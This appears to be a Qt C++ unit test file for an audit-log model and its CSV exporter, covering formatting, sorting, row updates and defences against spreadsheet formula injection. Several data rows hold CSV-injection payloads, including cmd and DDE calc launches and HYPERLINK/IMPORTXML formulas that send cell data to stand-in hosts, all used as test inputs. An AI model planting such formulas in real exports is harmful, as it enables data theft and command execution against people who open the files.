// SPDX-License-Identifier: GPL-3.0-or-later
#include "models/audit/auditcsv.h"
#include "models/audit/auditmodel.h"

#include <QAbstractItemModelTester>
#include <QLocale>
#include <QSignalSpy>
#include <QSortFilterProxyModel>
#include <QTest>

#include <algorithm>

using namespace OpsDeck;
using namespace Qt::StringLiterals;

namespace {

const QDateTime BaseTime(QDate(2024, 5, 1), QTime(10, 0, 0, 123), Qt::UTC);

AuditEntry makeEntry(qint64 id, const QString &host, const QString &command,
                     AuditStatus status = AuditStatus::Finished)
{
    AuditEntry entry;
    entry.id = id;
    entry.startedAt = BaseTime.addSecs(id * 60); // higher ids are newer
    entry.host = host;
    entry.command = command;
    entry.status = status;
    if (status != AuditStatus::Running) {
        entry.finishedAt = entry.startedAt.addMSecs(1500);
        entry.exitCode = 0;
        entry.durationMs = 1500;
        entry.outputBytes = 42;
    }
    return entry;
}

// Newest first, as the store answers.
QList<AuditEntry> entriesWithIds(const QList<qint64> &ids)
{
    QList<AuditEntry> entries;
    for (const qint64 id : ids)
        entries.append(makeEntry(id, u"web-1"_s, u"command %1"_s.arg(id)));
    return entries;
}

QList<qint64> modelIds(const AuditModel &model)
{
    QList<qint64> ids;
    for (int row = 0; row < model.rowCount(); ++row)
        ids.append(model.index(row, 0).data(AuditModel::EntryIdRole).toLongLong());
    return ids;
}

// A strict RFC 4180 reader: records end with CRLF (a bare CR or LF outside quotes is an error),
// quoted fields may hold anything with quotes doubled, a quote inside an unquoted field is an
// error, and the text must end with a CRLF.
std::optional<QList<QStringList>> readCsv(const QString &text)
{
    QList<QStringList> records;
    QStringList record;
    QString field;
    bool inQuotes = false;
    bool wasQuoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (inQuotes) {
            if (c != u'"') {
                field += c;
            } else if (i + 1 < text.size() && text[i + 1] == u'"') {
                field += u'"';
                ++i;
            } else {
                inQuotes = false;
            }
            continue;
        }
        if (c == u'"') {
            if (!field.isEmpty() || wasQuoted)
                return std::nullopt; // quote inside an unquoted field, or after the closing one
            inQuotes = true;
            wasQuoted = true;
        } else if (c == u',') {
            record.append(field);
            field.clear();
            wasQuoted = false;
        } else if (c == u'\r' && i + 1 < text.size() && text[i + 1] == u'\n') {
            record.append(field);
            records.append(record);
            record.clear();
            field.clear();
            wasQuoted = false;
            ++i;
        } else if (c == u'\r' || c == u'\n') {
            return std::nullopt;
        } else if (wasQuoted) {
            return std::nullopt; // text after a closing quote
        } else {
            field += c;
        }
    }
    if (inQuotes || !field.isEmpty() || !record.isEmpty() || wasQuoted)
        return std::nullopt; // unterminated quote or missing final CRLF
    return records;
}

// What a spreadsheet could evaluate: = + - @ first, also after blanks and quotes, or a leading
// tab or CR. Written apart from the exporter, from the OWASP description.
bool mayRunAsFormula(const QString &cell)
{
    if (cell.startsWith(u'\t') || cell.startsWith(u'\r'))
        return true;
    const qsizetype first =
        std::find_if(cell.cbegin(), cell.cend(),
                     [](QChar c) { return !c.isSpace() && c != u'"' && c != u'\''; }) -
        cell.cbegin();
    return first < cell.size() && QStringView(u"=+-@").contains(cell.at(first));
}

// The cells of a CSV text as a spreadsheet splits it at separator (',' in English locales, ';'
// in German ones, tab when guessed): quoted parts are kept whole, quotes removed.
QStringList cellsSplitAt(const QString &csv, QChar separator)
{
    QStringList cells;
    QString current;
    bool inQuotes = false;
    for (qsizetype i = 0; i < csv.size(); ++i) {
        const QChar c = csv.at(i);
        if (c == u'"') {
            if (inQuotes && i + 1 < csv.size() && csv.at(i + 1) == u'"') {
                current += u'"';
                ++i;
            } else {
                inQuotes = !inQuotes;
            }
        } else if (!inQuotes && (c == separator || c == u'\n')) {
            cells.append(current);
            current.clear();
        } else if (!inQuotes && c == u'\r' && i + 1 < csv.size() && csv.at(i + 1) == u'\n') {
            continue; // the record's CRLF
        } else {
            current += c;
        }
    }
    cells.append(current);
    return cells;
}

const QStringList CsvHeader{u"started_at"_s, u"finished_at"_s, u"host"_s,         u"remote_user"_s,
                            u"command"_s,    u"risk"_s,        u"status"_s,       u"exit_code"_s,
                            u"signal"_s,     u"duration_ms"_s, u"output_bytes"_s, u"incident_id"_s};

} // namespace

class AuditModelTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void showsColumns();
    void formatsExit();
    void sortRoleHoldsRawValues();
    void runningRowFinishesInPlace();
    void newRowsAreInsertedAtTheTop();
    void vanishedRowsAreRemoved();
    void sameAnswerChangesNothing();
    void reorderedOrDuplicateIdsReset();
    void csvRecords_data();
    void csvRecords();
    void csvHeaderAndLineEnds();
    void csvHostileCells_data();
    void csvHostileCells();
    void csvRoundTrip();
};

void AuditModelTest::initTestCase()
{
    // Formatting follows the default locale; pin it so the expectations hold everywhere.
    QLocale::setDefault(QLocale::c());
}

void AuditModelTest::showsColumns()
{
    AuditModel model;
    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
    AuditEntry entry = makeEntry(7, u"db-1"_s, u"psql -c 'DROP TABLE sessions'\nvacuum"_s);
    entry.startedAt = QDateTime(QDate(2024, 5, 1), QTime(9, 8, 7), Qt::LocalTime);
    entry.remoteUser = u"postgres"_s;
    entry.risk = Risk::Destroy;
    entry.exitCode = 1;
    entry.durationMs = 350;
    entry.outputBytes = 12345;
    entry.incidentId = 12;
    model.setEntries({entry});

    QCOMPARE(model.rowCount(), 1);
    QCOMPARE(model.columnCount(), int(AuditModel::ColumnCount));
    const auto text = [&](int column) { return model.index(0, column).data().toString(); };
    QCOMPARE(text(AuditModel::StartedColumn), u"2024-05-01 09:08:07"_s);
    QCOMPARE(text(AuditModel::HostColumn), u"db-1"_s);
    QCOMPARE(text(AuditModel::UserColumn), u"postgres"_s);
    QCOMPARE(text(AuditModel::CommandColumn), u"psql -c 'DROP TABLE sessions' \u21B5 vacuum"_s);
    QCOMPARE(model.index(0, AuditModel::CommandColumn).data(Qt::ToolTipRole).toString(),
             entry.command);
    QCOMPARE(text(AuditModel::RiskColumn), u"Destroy"_s);
    QCOMPARE(text(AuditModel::StatusColumn), u"Finished"_s);
    QCOMPARE(text(AuditModel::ExitColumn), u"1"_s);
    QCOMPARE(text(AuditModel::DurationColumn), u"350 ms"_s);
    QCOMPARE(text(AuditModel::OutputColumn), u"12 KiB"_s);
    QCOMPARE(text(AuditModel::IncidentColumn), u"12"_s);
    QCOMPARE(model.index(0, 0).data(AuditModel::EntryIdRole).toLongLong(), 7);
    QCOMPARE(model.index(0, 0).data(AuditModel::RiskRole).toInt(), int(Risk::Destroy));
    QCOMPARE(model.index(0, 0).data(AuditModel::StatusRole).toInt(), int(AuditStatus::Finished));
    QCOMPARE(model.index(0, AuditModel::DurationColumn).data(Qt::TextAlignmentRole).toInt(),
             int(Qt::AlignRight | Qt::AlignVCenter));
    QCOMPARE(model.entryAt(0), entry);
    QCOMPARE(model.rowOfId(7), 0);
    QCOMPARE(model.rowOfId(8), -1);
    QCOMPARE(model.headerData(AuditModel::OutputColumn, Qt::Horizontal).toString(), u"Output"_s);

    // A running command: nothing known yet about its end.
    const AuditEntry running = makeEntry(8, u"web-1"_s, u"uptime"_s, AuditStatus::Running);
    model.setEntries({running, entry});
    QCOMPARE(text(AuditModel::StatusColumn), u"Running"_s);
    for (const int column : {int(AuditModel::ExitColumn), int(AuditModel::DurationColumn),
                             int(AuditModel::OutputColumn), int(AuditModel::IncidentColumn),
                             int(AuditModel::UserColumn)})
        QCOMPARE(text(column), QString());
    for (const auto &[status, name] : {std::pair{AuditStatus::Running, u"Running"_s},
                                       std::pair{AuditStatus::Failed, u"Failed"_s},
                                       std::pair{AuditStatus::Cancelled, u"Cancelled"_s}})
        QCOMPARE(AuditModel::statusText(status), name);
    QCOMPARE(riskName(Risk::Read), u"Read"_s);
    QCOMPARE(riskName(Risk::Change), u"Change"_s);
}

void AuditModelTest::formatsExit()
{
    AuditEntry entry = makeEntry(1, u"web-1"_s, u"true"_s);
    QCOMPARE(AuditModel::formatExit(entry), u"0"_s);
    entry.exitCode = 127;
    QCOMPARE(AuditModel::formatExit(entry), u"127"_s);
    entry.exitCode.reset();
    entry.signalName = u"SIGKILL"_s;
    QCOMPARE(AuditModel::formatExit(entry), u"SIGKILL"_s);
    entry.signalName.clear();
    QCOMPARE(AuditModel::formatExit(entry), QString()); // running, or could not start
}

void AuditModelTest::sortRoleHoldsRawValues()
{
    AuditModel model;
    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
    // Display texts that sort wrongly as text: "1.2 s" < "2 min 05 s" < "350 ms", "12 KiB" < "9 B".
    AuditEntry slow = makeEntry(3, u"b"_s, u"slow"_s);
    slow.durationMs = 125'000;
    slow.outputBytes = 12'345;
    slow.exitCode = 2;
    slow.incidentId = 10;
    AuditEntry fast = makeEntry(2, u"a"_s, u"fast"_s);
    fast.durationMs = 350;
    fast.outputBytes = 9;
    fast.exitCode.reset();
    fast.signalName = u"SIGTERM"_s;
    fast.incidentId = 9;
    AuditEntry medium = makeEntry(1, u"c"_s, u"medium"_s);
    medium.durationMs = 1234;
    medium.outputBytes = 2048;
    medium.exitCode = 0;
    model.setEntries({slow, fast, medium});

    const auto sortValue = [&](int row, int column) {
        return model.index(row, column).data(AuditModel::SortRole);
    };
    QCOMPARE(sortValue(0, AuditModel::StartedColumn).toLongLong(),
             slow.startedAt.toMSecsSinceEpoch());
    QCOMPARE(sortValue(0, AuditModel::DurationColumn).toLongLong(), 125'000);
    QCOMPARE(sortValue(0, AuditModel::OutputColumn).toLongLong(), 12'345);
    QCOMPARE(sortValue(0, AuditModel::ExitColumn).toLongLong(), 2);
    QCOMPARE(sortValue(0, AuditModel::IncidentColumn).toLongLong(), 10);
    QCOMPARE(sortValue(0, AuditModel::HostColumn).toString(), u"b"_s);
    QVERIFY(sortValue(1, AuditModel::ExitColumn).toLongLong() > 255); // signals after codes
    QVERIFY(!sortValue(2, AuditModel::IncidentColumn).isValid());

    QSortFilterProxyModel sorter;
    sorter.setSourceModel(&model);
    sorter.setSortRole(AuditModel::SortRole);
    const auto sortedCommands = [&](int column, Qt::SortOrder order) {
        sorter.sort(column, order);
        QStringList commands;
        for (int row = 0; row < sorter.rowCount(); ++row)
            commands.append(sorter.index(row, AuditModel::CommandColumn).data().toString());
        return commands;
    };
    QCOMPARE(sortedCommands(AuditModel::DurationColumn, Qt::AscendingOrder),
             (QStringList{u"fast"_s, u"medium"_s, u"slow"_s}));
    QCOMPARE(sortedCommands(AuditModel::OutputColumn, Qt::DescendingOrder),
             (QStringList{u"slow"_s, u"medium"_s, u"fast"_s}));
    QCOMPARE(sortedCommands(AuditModel::ExitColumn, Qt::AscendingOrder),
             (QStringList{u"medium"_s, u"slow"_s, u"fast"_s}));
    QCOMPARE(sortedCommands(AuditModel::StartedColumn, Qt::AscendingOrder),
             (QStringList{u"medium"_s, u"fast"_s, u"slow"_s}));
    // Rows without an incident go last when ascending.
    QCOMPARE(sortedCommands(AuditModel::IncidentColumn, Qt::AscendingOrder),
             (QStringList{u"fast"_s, u"slow"_s, u"medium"_s}));
}

void AuditModelTest::runningRowFinishesInPlace()
{
    AuditModel model;
    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
    AuditEntry running = makeEntry(5, u"web-1"_s, u"sleep 2"_s, AuditStatus::Running);
    const QList<AuditEntry> before{running, makeEntry(4, u"web-1"_s, u"uptime"_s)};
    model.setEntries(before);
    const QPersistentModelIndex runningRow = model.index(0, AuditModel::StatusColumn);
    QCOMPARE(runningRow.data().toString(), u"Running"_s);

    QSignalSpy reset(&model, &QAbstractItemModel::modelReset);
    QSignalSpy inserted(&model, &QAbstractItemModel::rowsInserted);
    QSignalSpy removed(&model, &QAbstractItemModel::rowsRemoved);
    QSignalSpy changed(&model, &QAbstractItemModel::dataChanged);
    AuditEntry finished = running;
    finished.status = AuditStatus::Finished;
    finished.finishedAt = running.startedAt.addSecs(2);
    finished.exitCode = 0;
    finished.durationMs = 2003;
    finished.outputBytes = 0;
    model.setEntries({finished, before.at(1)});

    QCOMPARE(reset.size(), 0);
    QCOMPARE(inserted.size(), 0);
    QCOMPARE(removed.size(), 0);
    QCOMPARE(changed.size(), 1); // only the row that changed
    QCOMPARE(changed.at(0).at(0).toModelIndex(), model.index(0, 0));
    QCOMPARE(changed.at(0).at(1).toModelIndex(), model.index(0, AuditModel::ColumnCount - 1));
    QCOMPARE(model.rowCount(), 2);
    QVERIFY(runningRow.isValid());
    QCOMPARE(runningRow.row(), 0);
    QCOMPARE(runningRow.data().toString(), u"Finished"_s);
    QCOMPARE(model.index(0, AuditModel::DurationColumn).data().toString(), u"2.0 s"_s);
    QCOMPARE(model.entryAt(0), finished);
}

void AuditModelTest::newRowsAreInsertedAtTheTop()
{
    AuditModel model;
    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
    model.setEntries(entriesWithIds({2, 1}));
    const QPersistentModelIndex two = model.index(0, AuditModel::CommandColumn);
    QSignalSpy reset(&model, &QAbstractItemModel::modelReset);
    QSignalSpy inserted(&model, &QAbstractItemModel::rowsInserted);
    QSignalSpy changed(&model, &QAbstractItemModel::dataChanged);

    model.setEntries(entriesWithIds({4, 3, 2, 1}));
    QCOMPARE(reset.size(), 0);
    QCOMPARE(changed.size(), 0);
    QCOMPARE(inserted.size(), 1);
    QCOMPARE(inserted.at(0).at(1).toInt(), 0);
    QCOMPARE(inserted.at(0).at(2).toInt(), 1);
    QCOMPARE(modelIds(model), (QList<qint64>{4, 3, 2, 1}));
    QCOMPARE(two.row(), 2);
    QCOMPARE(two.data().toString(), u"command 2"_s);

    // New rows at the top and in a gap (a command started with an earlier time) at once.
    inserted.clear();
    model.setEntries(entriesWithIds({6, 5, 4, 3, 2, 1}));
    QCOMPARE(inserted.size(), 1);
    QList<AuditEntry> withGap = entriesWithIds({7, 6, 5, 4, 3});
    withGap += makeEntry(20, u"web-2"_s, u"late start"_s);
    withGap += entriesWithIds({2, 1});
    inserted.clear();
    model.setEntries(withGap);
    QCOMPARE(inserted.size(), 2);
    QCOMPARE(modelIds(model), (QList<qint64>{7, 6, 5, 4, 3, 20, 2, 1}));
    QCOMPARE(reset.size(), 0);
}

void AuditModelTest::vanishedRowsAreRemoved()
{
    AuditModel model;
    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
    model.setEntries(entriesWithIds({6, 5, 4, 3, 2, 1}));
    QSignalSpy reset(&model, &QAbstractItemModel::modelReset);
    QSignalSpy removed(&model, &QAbstractItemModel::rowsRemoved);

    // A filter that keeps every other row, then one that shows new and old rows mixed.
    model.setEntries(entriesWithIds({5, 3, 1}));
    QCOMPARE(modelIds(model), (QList<qint64>{5, 3, 1}));
    QCOMPARE(removed.size(), 3);
    model.setEntries(entriesWithIds({7, 5, 4, 1}));
    QCOMPARE(modelIds(model), (QList<qint64>{7, 5, 4, 1}));
    model.setEntries({});
    QCOMPARE(model.rowCount(), 0);
    QCOMPARE(reset.size(), 0);
}

void AuditModelTest::sameAnswerChangesNothing()
{
    AuditModel model;
    model.setEntries(entriesWithIds({3, 2, 1}));
    QSignalSpy anything(&model, &QAbstractItemModel::layoutChanged);
    QSignalSpy changed(&model, &QAbstractItemModel::dataChanged);
    QSignalSpy inserted(&model, &QAbstractItemModel::rowsInserted);
    QSignalSpy reset(&model, &QAbstractItemModel::modelReset);
    model.setEntries(entriesWithIds({3, 2, 1}));
    QCOMPARE(changed.size() + inserted.size() + reset.size() + anything.size(), 0);
}

void AuditModelTest::reorderedOrDuplicateIdsReset()
{
    AuditModel model;
    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
    model.setEntries(entriesWithIds({2, 1}));
    QSignalSpy reset(&model, &QAbstractItemModel::modelReset);
    model.setEntries(entriesWithIds({1, 2}));
    QCOMPARE(reset.size(), 1);
    QCOMPARE(modelIds(model), (QList<qint64>{1, 2}));
    model.setEntries(entriesWithIds({3, 3, 1}));
    QCOMPARE(reset.size(), 2);
    QCOMPARE(modelIds(model), (QList<qint64>{3, 3, 1}));
    model.setEntries(entriesWithIds({4, 3, 1})); // from duplicates back to a diff-able list
    QCOMPARE(modelIds(model), (QList<qint64>{4, 3, 1}));
}

void AuditModelTest::csvRecords_data()
{
    QTest::addColumn<AuditEntry>("entry");
    QTest::addColumn<QString>("record"); // without its CRLF

    AuditEntry plain = makeEntry(1, u"web-1"_s, u"uptime"_s);
    plain.startedAt = BaseTime;
    plain.finishedAt = BaseTime.addMSecs(1500);
    plain.remoteUser = u"deploy"_s;
    plain.risk = Risk::Change;
    plain.incidentId = 3;
    const QString plainTail = u"change,finished,0,,1500,42,3"_s;
    const QString times = u"2024-05-01T10:00:00.123Z,2024-05-01T10:00:01.623Z,"_s;
    const auto withCommand = [&](const QString &command) {
        AuditEntry entry = plain;
        entry.command = command;
        return entry;
    };
    const auto record = [&](const QString &commandField) -> QString {
        return times + u"web-1,deploy,"_s + commandField + u',' + plainTail;
    };

    QTest::addRow("plain") << plain << record(u"uptime"_s);
    QTest::addRow("comma") << withCommand(u"echo a,b"_s) << record(u"\"echo a,b\""_s);
    QTest::addRow("quotes") << withCommand(u"echo \"hi\""_s) << record(u"\"echo \"\"hi\"\"\""_s);
    QTest::addRow("newline") << withCommand(u"set -e\nmake"_s) << record(u"\"set -e\nmake\""_s);
    QTest::addRow("crlf") << withCommand(u"a\r\nb"_s) << record(u"\"a\r\nb\""_s);
    QTest::addRow("inner apostrophe stays")
        << withCommand(u"psql -c 'select 1'"_s) << record(u"psql -c 'select 1'"_s);
    QTest::addRow("unicode") << withCommand(u"echo grüße ✓ 日本"_s)
                             << record(u"echo grüße ✓ 日本"_s);
    QTest::addRow("formula =") << withCommand(u"=1+2"_s) << record(u"'=1+2"_s);
    QTest::addRow("formula +") << withCommand(u"+SUM(A1:A9)"_s) << record(u"'+SUM(A1:A9)"_s);
    QTest::addRow("formula -") << withCommand(u"-2+3"_s) << record(u"'-2+3"_s);
    QTest::addRow("formula @") << withCommand(u"@SUM(1)"_s) << record(u"'@SUM(1)"_s);
    QTest::addRow("leading tab") << withCommand(u"\tls"_s) << record(u"\"'\tls\""_s);
    QTest::addRow("leading CR") << withCommand(u"\rls"_s) << record(u"\"'\rls\""_s);
    QTest::addRow("formula with quotes and commas")
        << withCommand(u"=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"_s)
        << record(u"\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\""_s);
    QTest::addRow("formula not at the start") << withCommand(u"a=1 b=2"_s) << record(u"a=1 b=2"_s);

    AuditEntry evilHost = plain;
    evilHost.host = u"=cmd|' /C calc'!A0"_s;
    evilHost.remoteUser = u"@root"_s;
    QTest::addRow("host and user are defused too")
        << evilHost << times + u"'=cmd|' /C calc'!A0,'@root,uptime,"_s + plainTail;

    AuditEntry running = makeEntry(2, u"db-1"_s, u"tail -f log"_s, AuditStatus::Running);
    running.startedAt = BaseTime;
    QTest::addRow("running: empty optional fields")
        << running << u"2024-05-01T10:00:00.123Z,,db-1,,tail -f log,read,running,,,,,"_s;

    AuditEntry killed = plain;
    killed.exitCode.reset();
    killed.signalName = u"SIGKILL"_s;
    killed.status = AuditStatus::Cancelled;
    killed.risk = Risk::Destroy;
    killed.incidentId.reset();
    QTest::addRow("signal") << killed
                            << times + u"web-1,deploy,uptime,destroy,cancelled,,SIGKILL,1500,42,"_s;

    AuditEntry negative = plain;
    negative.exitCode = -1;
    QTest::addRow("every cell is defused, a negative number too")
        << negative << times + u"web-1,deploy,uptime,change,finished,'-1,,1500,42,3"_s;

    QTest::addRow("semicolon is quoted")
        << withCommand(u"cd /srv; ls"_s) << record(u"\"cd /srv; ls\""_s);
    QTest::addRow("formula after a semicolon stays inside the quotes")
        << withCommand(u"ls;=1+2"_s) << record(u"\"ls;=1+2\""_s);
    QTest::addRow("tab inside is quoted")
        << withCommand(u"printf 'a\tb'"_s) << record(u"\"printf 'a\tb'\""_s);
    QTest::addRow("formula after blanks") << withCommand(u"  =1+2"_s) << record(u"'  =1+2"_s);
    QTest::addRow("formula after a quote")
        << withCommand(u"\"=1+2\""_s) << record(u"\"'\"\"=1+2\"\"\""_s);
    QTest::addRow("formula after an apostrophe")
        << withCommand(u"'@SUM(1)"_s) << record(u"''@SUM(1)"_s);
    QTest::addRow("formula after a newline")
        << withCommand(u"\n=1+2"_s) << record(u"\"'\n=1+2\""_s);
    QTest::addRow("quote not followed by a formula")
        << withCommand(u"\"quoted\" -x"_s) << record(u"\"\"\"quoted\"\" -x\""_s);

    AuditEntry evilSignal = plain;
    evilSignal.exitCode.reset();
    evilSignal.signalName = u"+SIG"_s;
    QTest::addRow("signal is defused too")
        << evilSignal << times + u"web-1,deploy,uptime,change,finished,,'+SIG,1500,42,3"_s;

    AuditEntry localTime = plain;
    localTime.startedAt =
        QDateTime(QDate(2024, 5, 1), QTime(12, 0), Qt::OffsetFromUTC, 2 * 60 * 60);
    localTime.finishedAt = {};
    QTest::addRow("times converted to UTC")
        << localTime << u"2024-05-01T10:00:00.000Z,,web-1,deploy,uptime,"_s + plainTail;
}

void AuditModelTest::csvRecords()
{
    QFETCH(AuditEntry, entry);
    QFETCH(QString, record);
    const QString csv = auditEntriesToCsv({entry});
    const QString header = CsvHeader.join(u',') + u"\r\n";
    QVERIFY(csv.startsWith(header));
    QCOMPARE(csv.mid(header.size()), record + u"\r\n");
    // And a reader gets back twelve fields.
    const auto records = readCsv(csv);
    QVERIFY(records);
    QCOMPARE(records->size(), 2);
    QCOMPARE(records->at(1).size(), CsvHeader.size());
}

void AuditModelTest::csvHostileCells_data()
{
    QTest::addColumn<QString>("payload");
    // Payloads seen in CSV-injection write-ups, and their variations.
    const QStringList payloads{
        u"=1+2"_s,
        u"=cmd|' /C calc'!A0"_s,
        u"=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"_s,
        u"+41 (0) 44 000"_s,
        u"-2+3+cmd|' /C calc'!A0"_s,
        u"@SUM(1+1)*cmd|' /C calc'!A0"_s,
        u"\t=1+2"_s,
        u"\r=1+2"_s,
        u" =1+2"_s,
        u"\"=1+2"_s,
        u"'=1+2"_s,
        u"\n@SUM(1)"_s,
        u"ls;=1+2"_s,
        u"ls,=1+2"_s,
        u"ls\t=1+2"_s,
        u"a\r\n=1+2"_s,
        u"x\";=1+2;\""_s,
        u"=IMPORTXML(CONCAT(\"https://x.example/?\",A1),\"//a\")"_s,
        u"DDE(\"cmd\";\"/C calc\";\"!A0\")"_s,
    };
    for (const QString &payload : payloads) {
        QTest::addRow("%s", qPrintable(QString(payload)
                                           .replace(u'\t', u"\\t"_s)
                                           .replace(u'\r', u"\\r"_s)
                                           .replace(u'\n', u"\\n"_s)))
            << payload;
    }
}

void AuditModelTest::csvHostileCells()
{
    QFETCH(QString, payload);
    // The payload in every text column at once, and next to it negative numbers.
    AuditEntry entry = makeEntry(1, payload, payload);
    entry.remoteUser = payload;
    entry.signalName = payload;
    entry.exitCode = -1;
    entry.durationMs = -5;
    entry.outputBytes = 0;
    const QString csv = auditEntriesToCsv({entry});

    // Still twelve fields per record, the payload back whole (with its guard).
    const auto records = readCsv(csv);
    QVERIFY(records);
    QCOMPARE(records->size(), 2);
    QCOMPARE(records->at(1).size(), CsvHeader.size());
    for (const int column : {2, 3, 4, 8})
        QCOMPARE(records->at(1).at(column), mayRunAsFormula(payload) ? u'\'' + payload : payload);

    // Whatever separator the spreadsheet picks, no cell it makes can run as a formula.
    for (const QChar separator : {u',', u';', u'\t'}) {
        const QStringList cells = cellsSplitAt(csv, separator);
        for (const QString &cell : cells) {
            QVERIFY2(!mayRunAsFormula(cell) || cell.startsWith(u'\''),
                     qPrintable(u"separator '%1': cell <%2>"_s.arg(separator, cell)));
        }
    }
}

void AuditModelTest::csvHeaderAndLineEnds()
{
    QCOMPARE(auditEntriesToCsv({}), CsvHeader.join(u',') + u"\r\n");
    const QString csv = auditEntriesToCsv(entriesWithIds({3, 2, 1}));
    QCOMPARE(csv.count(u"\r\n"_s), 4);
    QCOMPARE(csv.count(u'\n'), 4); // no bare LF
    QVERIFY(csv.endsWith(u"\r\n"_s));
}

void AuditModelTest::csvRoundTrip()
{
    QList<AuditEntry> entries;
    const QStringList commands{
        u"uptime"_s,
        u"echo \"a, b\"; printf 'x\\ny'"_s,
        u"for h in a b; do\n  ssh \"$h\" 'df -h'\r\ndone"_s,
        u"=IMPORTXML(CONCAT(\"https://x.example/?\",A1),\"//a\")"_s,
        u"-rf"_s,
        u"echo 'Grüße' → ✓"_s,
        u"\"quoted\""_s,
        u""_s,
        u",,,"_s,
    };
    for (qsizetype i = 0; i < commands.size(); ++i) {
        AuditEntry entry = makeEntry(100 - i, i % 2 ? u"db-1"_s : u"web,1"_s, commands[i]);
        entry.remoteUser = i % 3 ? QString() : u"op\"erator"_s;
        entry.risk = Risk(i % 3);
        if (i % 4 == 0) {
            entry.exitCode.reset();
            entry.signalName = u"SIGTERM"_s;
        }
        if (i % 2)
            entry.incidentId = i;
        entries.append(entry);
    }
    const auto records = readCsv(auditEntriesToCsv(entries));
    QVERIFY(records);
    QCOMPARE(records->size(), entries.size() + 1);
    QCOMPARE(records->at(0), CsvHeader);
    const auto defused = [](const QString &text) -> QString {
        return mayRunAsFormula(text) ? u'\'' + text : text;
    };
    const auto number = [](const auto &value) {
        return value ? QString::number(*value) : QString();
    };
    for (qsizetype i = 0; i < entries.size(); ++i) {
        const AuditEntry &entry = entries[i];
        const QStringList &fields = records->at(i + 1);
        QCOMPARE(fields.size(), CsvHeader.size());
        QCOMPARE(QDateTime::fromString(fields[0], Qt::ISODateWithMs), entry.startedAt);
        QCOMPARE(QDateTime::fromString(fields[1], Qt::ISODateWithMs), entry.finishedAt);
        QCOMPARE(fields[2], entry.host);
        QCOMPARE(fields[3], entry.remoteUser);
        QCOMPARE(fields[4], defused(entry.command));
        QCOMPARE(riskFromId(fields[5]), std::optional(entry.risk));
        QCOMPARE(auditStatusFromName(fields[6]), std::optional(entry.status));
        QCOMPARE(fields[7], number(entry.exitCode));
        QCOMPARE(fields[8], entry.signalName);
        QCOMPARE(fields[9], number(entry.durationMs));
        QCOMPARE(fields[10], number(entry.outputBytes));
        QCOMPARE(fields[11], number(entry.incidentId));
    }
}

QTEST_GUILESS_MAIN(AuditModelTest)
#include "tst_auditmodel.moc"
